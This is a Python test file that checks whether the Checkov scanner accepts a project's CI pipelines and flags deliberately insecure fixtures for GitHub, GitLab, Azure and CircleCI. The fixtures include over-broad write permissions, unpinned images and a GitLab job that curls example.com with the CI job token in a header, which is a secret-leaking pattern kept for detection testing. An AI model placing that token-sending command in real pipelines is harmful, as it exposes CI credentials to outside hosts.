"""Checkov has no unexpected findings in the pipelines of all providers."""

import json
from pathlib import Path

import pytest

from tests.support.commands import run
from tests.support.pipelines import Services
from tools.pythons import UV

CHECKOV = "checkov@3.3.30"

FRAMEWORKS = {
    "github": "github_actions",
    "gitlab": "gitlab_ci",
    "azure": "azure_pipelines",
    "circleci": "circleci_pipelines",
}
SUPPRESSED = {
    # A rollback has inputs (overlay and release); they reach the shell as environment variables.
    "github": {"CKV_GHA_7"},
}
BAD = {
    "github": (
        ".github/workflows/ci.yml",
        "on: [push]\npermissions: write-all\njobs: {a: {runs-on: x, steps: [{run: make}]}}\n",
    ),
    "gitlab": (
        ".gitlab-ci.yml",
        "a:\n  script:\n    - 'curl -H \"JOB-TOKEN: $CI_JOB_TOKEN\" https://example.com'\n",
    ),
    "azure": (
        "azure-pipelines.yml",
        "jobs: [{job: a, container: {image: 'python:latest'}, steps: [{script: make}]}]\n",
    ),
    "circleci": (
        ".circleci/config.yml",
        "version: 2.1\njobs: {a: {docker: [{image: 'python:latest'}], steps: [{run: make}]}}\n",
    ),
}


def checkov(folder: Path, provider: str) -> tuple[int, set[str]]:
    """Return the number of passed checks and the ids of the failed ones."""
    options = ["--skip-download", "--quiet", "--compact", "--output=json", "--directory=."]
    command = [UV, "tool", "run", "--quiet", CHECKOV, *options, "--framework", FRAMEWORKS[provider]]
    done = run(*command, cwd=folder, LOG_LEVEL="ERROR")
    report = json.loads(done.stdout)
    if "results" not in report:
        return 0, set()
    assert report["summary"]["parsing_errors"] == 0
    failed = {each["check_id"] for each in report["results"]["failed_checks"]}
    return report["summary"]["passed"], failed


@pytest.mark.slow
@pytest.mark.parametrize("provider", FRAMEWORKS)
def test_checkov_has_only_suppressed_findings(services: Services, provider: str) -> None:
    passed, failed = checkov(services(provider), provider)
    # For Azure, Checkov only checks container jobs, which these pipelines do not have.
    assert passed or provider == "azure"
    assert failed == SUPPRESSED.get(provider, set())


@pytest.mark.slow
@pytest.mark.parametrize("provider", FRAMEWORKS)
def test_checkov_finds_an_insecure_pipeline(tmp_path: Path, provider: str) -> None:
    name, text = BAD[provider]
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / name).write_text(text)
    assert checkov(tmp_path, provider)[1]
